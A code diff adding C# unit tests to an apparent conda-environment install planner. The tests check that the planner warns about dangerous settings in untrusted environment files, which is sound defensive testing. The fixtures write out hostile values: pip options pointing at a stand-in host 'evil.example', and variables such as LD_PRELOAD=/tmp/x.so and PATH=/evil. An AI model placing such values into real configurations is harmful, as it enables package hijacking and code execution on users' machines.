@@ -1,8 +1,10 @@
 using System;
 using System.IO;
+using System.Linq;
 using CondaEnv.Adapters;
 using CondaEnv.Formats.Catalog;
 using CondaEnv.Install;
+using CondaEnv.Snapshots;
 using CondaEnv.Specs.Channels;
 using CondaEnv.Tests.Machines;
 using Xunit;
@@ -80,6 +82,54 @@ public sealed class InstallPlannerTests : IDisposable
         InstallPlan json = Plan("environment.json", "{\"name\": \"e\", \"dependencies\": [\"zlib=1.3\"]}");
         Assert.Equal("environment.yml", Path.GetFileName(json.File));
         Assert.StartsWith(_workspace.Folder, json.File, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_file_from_somebody_says_what_it_makes_the_tool_do()
+    {
+        InstallPlan plan = Plan(
+            "environment.yml",
+            """
+            channels: [conda-forge]
+            dependencies:
+              - python=3.12=0
+              - pip:
+                  - --index-url https://evil.example/simple
+                  - --trusted-host evil.example
+                  - -r other.txt
+                  - -e ./src
+                  - idna==3.10
+                  - --pre
+            variables:
+              LD_PRELOAD: /tmp/x.so
+              path: /tmp
+              PIP_INDEX_URL: https://evil.example/simple
+              GREETING: hello
+            """);
+        Assert.Collection(
+            plan.Warnings,
+            static w => Assert.EndsWith("what runs: '--index-url https://evil.example/simple', '--trusted-host evil.example', '-r other.txt', '-e ./src'.", w, StringComparison.Ordinal),
+            static w => Assert.EndsWith("are used: 'LD_PRELOAD', 'path', 'PIP_INDEX_URL'.", w, StringComparison.Ordinal));
+        Assert.Empty(Plan("plain.yml", "channels: [conda-forge]\ndependencies: [python=3.12=0, {pip: [idna==3.10, --pre]}]\nvariables: {GREETING: hello}\n").Warnings);
+    }
+
+    /// <summary>record.json has the names alone; an empty value is another value.</summary>
+    [Theory]
+    [InlineData(true)]
+    [InlineData(false)]
+    public void Variables_of_a_record_have_their_values_or_are_not_set(bool includeSecret)
+    {
+        string prefix = _machine.Env("envs/one");
+        _machine.File("envs/one/conda-meta/zlib-1.3-0.json", "{\"name\":\"zlib\",\"version\":\"1.3\",\"build\":\"0\",\"build_number\":0,\"depends\":[],\"channel\":\"https://host.example/chan/linux-64\",\"subdir\":\"linux-64\",\"url\":\"https://host.example/chan/linux-64/zlib-1.3-0.conda\"}");
+        _machine.File("envs/one/conda-meta/state", "{\"env_vars\":{\"GREETING\":\"hello\",\"PATH\":\"/evil\"}}");
+        EnvironmentService service = new(_machine.Machine(), static () => new YamlDotNetReader(), static _ => { }, static _ => { });
+        CondaEnvironment environment = service.Locate(prefix);
+        CondaEnvRecord record = service.Record(environment, _machine.At("records"), new RecordRequest { IncludeSecret = includeSecret }, default);
+        InstallPlan plan = new InstallPlanner(service, _workspace, "linux-64", solve: false).Of(service.ImportFile(record.Path));
+        Assert.Equal(CreateStyle.Exact, plan.Style);
+        Assert.Equal(includeSecret ? "GREETING=hello, PATH=/evil" : "", string.Join(", ", plan.Variables.Select(static v => v.Key + "=" + v.Value)));
+        Assert.Contains(plan.Warnings, static w => w.Contains("'PATH'", StringComparison.Ordinal));
+        Assert.Equal(!includeSecret, plan.Warnings.Any(static w => w.Contains("no values for 2 variables", StringComparison.Ordinal)));
     }
 
     private InstallPlan Plan(string name, string text, bool solve = false)
